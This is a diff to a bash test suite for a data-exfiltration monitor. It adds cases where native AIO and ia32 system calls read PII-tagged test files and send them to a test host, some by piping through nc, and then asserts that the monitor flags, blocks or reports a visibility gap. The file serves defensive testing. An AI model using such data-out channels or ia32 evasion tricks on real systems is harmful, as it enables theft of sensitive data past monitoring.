@@ -1,6 +1,6 @@
 #!/bin/bash
 # SPDX-License-Identifier: GPL-2.0
-# test_channels_io.sh - io_uring sends, receives, splice and tee; sendmmsg, recvmmsg, vmsplice, tee, socket splice, MSG_ZEROCOPY, SCM_RIGHTS, connected UDP.
+# test_channels_io.sh - io_uring sends, receives, splice and tee; native AIO reads and writes; ia32 calls; sendmmsg, recvmmsg, vmsplice, tee, socket splice, MSG_ZEROCOPY, SCM_RIGHTS, connected UDP.
 set -u
 . "$(dirname "$0")/../lib/lib.sh"
 need_root channels_io
@@ -28,12 +28,16 @@ chmod 755 "$T"
 mkdir -p "$T/ds"
 head -c 5000 /dev/urandom >"$T/ds/a.bin"
 head -c 3000 /dev/urandom >"$T/ds/b.bin"
-chmod -R a+rX "$T/ds"
+mkdir -p "$T/vault" "$T/out"
+head -c 4000 /dev/urandom >"$T/vault/v.bin"
+chmod -R a+rX "$T/ds" "$T/vault"
 cat >"$T/inv.json" <<EOF
 {"datasets": [
-  {"id": "scans", "classification": "restricted", "paths": ["$T/ds"], "tags": ["PII"]}
+  {"id": "scans", "classification": "restricted", "paths": ["$T/ds"], "tags": ["PII"]},
+  {"id": "vault", "classification": "restricted", "paths": ["$T/vault"], "enforce": "block"}
 ]}
 EOF
+NOBODY="setpriv --reuid=nobody --regid=nogroup --clear-groups"
 
 EV=$T/events.jsonl
 FI=$T/findings.jsonl
@@ -132,6 +136,51 @@ listen "$EXT" tcp "$HOST" 9114 "$T/recv-utee" || exit 1
 /usr/bin/cat "$T/ds/a.bin" | "$PROGS/uring_net" tee | /usr/bin/nc -w 10 -N "$HOST" 9114 &
 UTEE_PID=$!
 wait $UTEE_PID
+
+# Native AIO (io_setup/io_submit), as nobody: reads that ask for more than the file holds
+# (PREAD 8192, PREADV 2 x 4096), then write() to the test host.
+declare -A AIO_PID
+listen "$EXT" tcp "$HOST" 9141 "$T/recv-aio-pread" || exit 1
+$NOBODY "$PROGS/aio_rw" pread "$T/ds/a.bin" "$HOST" 9141 &
+AIO_PID[pread]=$!
+wait "${AIO_PID[pread]}"
+listen "$EXT" tcp "$HOST" 9142 "$T/recv-aio-preadv" || exit 1
+$NOBODY "$PROGS/aio_rw" preadv "$T/ds/b.bin" "$HOST" 9142 &
+AIO_PID[preadv]=$!
+wait "${AIO_PID[preadv]}"
+# AIO writes of read() bytes: on a socket, into the pipe nc reads, into a file.
+listen "$EXT" tcp "$HOST" 9143 "$T/recv-aio-pwrite" || exit 1
+$NOBODY "$PROGS/aio_rw" pwrite "$T/ds/a.bin" "$HOST" 9143 &
+AIO_PID[pwrite]=$!
+wait "${AIO_PID[pwrite]}"
+listen "$EXT" tcp "$HOST" 9144 "$T/recv-aio-pipe" || exit 1
+$NOBODY "$PROGS/aio_rw" pwritev "$T/ds/a.bin" - | /usr/bin/nc -w 10 -N "$HOST" 9144 &
+AIO_PIPE_NC=$!
+wait $AIO_PIPE_NC
+$NOBODY "$PROGS/aio_rw" pwrite "$T/ds/b.bin" - >"$T/out/aio-copy.bin" &
+AIO_PID[file]=$!
+wait "${AIO_PID[file]}"
+# An AIO read of a `block` dataset: its connect to the test host is refused.
+listen "$EXT" tcp "$HOST" 9145 "$T/recv-aio-block" || exit 1
+$NOBODY "$PROGS/aio_rw" pread "$T/vault/v.bin" "$HOST" 9145 >"$T/aio-block.out" &
+AIO_PID[block]=$!
+wait "${AIO_PID[block]}"
+
+# ia32 system calls (`int $0x80` from a 64-bit program), as nobody: an open and read of the
+# dataset then write(); read() then an ia32 write() and an ia32 socketcall(SYS_SEND); read()
+# then an ia32 ptrace(), which is not followed.
+declare -A IA32_PID
+port=9150
+for op in read write socketcall; do
+	port=$((port + 1))
+	listen "$EXT" tcp "$HOST" $port "$T/recv-ia32-$op" || exit 1
+	$NOBODY "$PROGS/ia32_io" $op "$T/ds/a.bin" "$HOST" $port &
+	IA32_PID[$op]=$!
+	wait "${IA32_PID[$op]}"
+done
+$NOBODY "$PROGS/ia32_io" ptrace "$T/ds/b.bin" &
+IA32_PID[ptrace]=$!
+wait "${IA32_PID[ptrace]}"
 
 # Channel 5. sendmmsg straight out, five datagrams a call, each addressed by msg_name.
 listen "$EXT" udp "$HOST" 9121 "$T/recv-smmsg" || exit 1
@@ -322,6 +371,67 @@ test_uring_tee() {
 	ASSERT_EQ "$(stat -c %s "$T/recv-utee")" 5000 "bytes arrived"
 	exfil_ok "ring tee" $UTEE_PID 5000 9114
 	ASSERT_EQ "$(finding exfiltration $UTEE_PID unmapped.via.hop)" pipe "tainted through the tee'd pipe"
+}
+
+test_aio_reads() {
+	local op file=a.bin n=5000 port=9141
+	for op in pread preadv; do
+		[ $op = preadv ] && file=b.bin n=3000 port=9142
+		ASSERT_EQ "$(stat -c %s "$T/recv-aio-$op")" $n "aio $op: bytes arrived"
+		exfil_ok "aio $op" "${AIO_PID[$op]}" $n $port
+		ASSERT_EQ "$(finding exfiltration "${AIO_PID[$op]}" unmapped.via.hop)" read \
+			"aio $op: tainted by its own read"
+		ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid="${AIO_PID[$op]}" \
+			--where unmapped.access=read --where unmapped.dataset=scans)" $n \
+			"aio $op: the read's exact bytes"
+		ASSERT_EQ "$($EVQ "$EV" last actor.process.user.uid \
+			--where actor.process.pid="${AIO_PID[$op]}")" "$(id -u nobody)" "aio $op: uid"
+		ASSERT_EQ "$($EVQ "$EV" last file.path --where actor.process.pid="${AIO_PID[$op]}")" \
+			"$T/ds/$file" "aio $op: file"
+	done
+}
+
+test_aio_writes() {
+	ASSERT_EQ "$(stat -c %s "$T/recv-aio-pwrite")" 5000 "aio pwrite: bytes arrived"
+	exfil_ok "aio pwrite on a socket" "${AIO_PID[pwrite]}" 5000 9143
+	ASSERT_EQ "$(stat -c %s "$T/recv-aio-pipe")" 5000 "aio pwritev into a pipe: bytes arrived"
+	exfil_ok "aio pwritev into a pipe" $AIO_PIPE_NC 5000 9144
+	ASSERT_EQ "$(finding exfiltration $AIO_PIPE_NC unmapped.via.hop)" pipe "tainted through the pipe"
+	ASSERT_EQ "$(finding derived_copy "${AIO_PID[file]}" evidences.0.file.path)" \
+		"$T/out/aio-copy.bin" "aio pwrite makes a derived copy"
+	ASSERT_EQ "$(finding derived_copy "${AIO_PID[file]}" unmapped.bytes)" 3000 "derived bytes"
+}
+
+test_aio_read_of_a_block_dataset() {
+	local pid=${AIO_PID[block]}
+	ASSERT_EQ "$(cat "$T/aio-block.out")" "EPERM.$pid" "connect refused"
+	ASSERT_EQ "$(stat -c %s "$T/recv-aio-block")" 0 "bytes at the external host"
+	ASSERT_EQ "$(finding exfiltration $pid disposition)" Blocked "disposition"
+	ASSERT_EQ "$(finding exfiltration $pid resources.0.uid)" vault "dataset"
+	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$pid \
+		--where unmapped.access=read --where unmapped.dataset=vault)" 4000 "the read's exact bytes"
+}
+
+test_ia32_calls() {
+	local op port=9150
+	for op in read write socketcall; do
+		port=$((port + 1))
+		ASSERT_EQ "$(stat -c %s "$T/recv-ia32-$op")" 5000 "ia32 $op: bytes arrived"
+		exfil_ok "ia32 $op" "${IA32_PID[$op]}" 5000 $port
+		ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid="${IA32_PID[$op]}" \
+			--where unmapped.access=read --where unmapped.dataset=scans)" 5000 \
+			"ia32 $op: the read's exact bytes"
+	done
+	ASSERT_EQ "$($EVQ "$EV" last actor.process.user.uid \
+		--where actor.process.pid="${IA32_PID[read]}")" "$(id -u nobody)" "ia32 read: uid"
+}
+
+test_ia32_unfollowed_call_is_a_gap() {
+	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid="${IA32_PID[ptrace]}" \
+		--where unmapped.access=read)" 3000 "the 64-bit read before it"
+	ASSERT_GE "$($EVQ "$FI" count --where finding_info.types.0=visibility_gap \
+		--where unmapped.source=ia32_syscall)" 1 "visibility_gap ia32_syscall"
+	ASSERT_HAS "$(cat "$T/agent.err")" "datatrail: ia32 system calls: followed by" "said at start"
 }
 
 test_sendmmsg() {
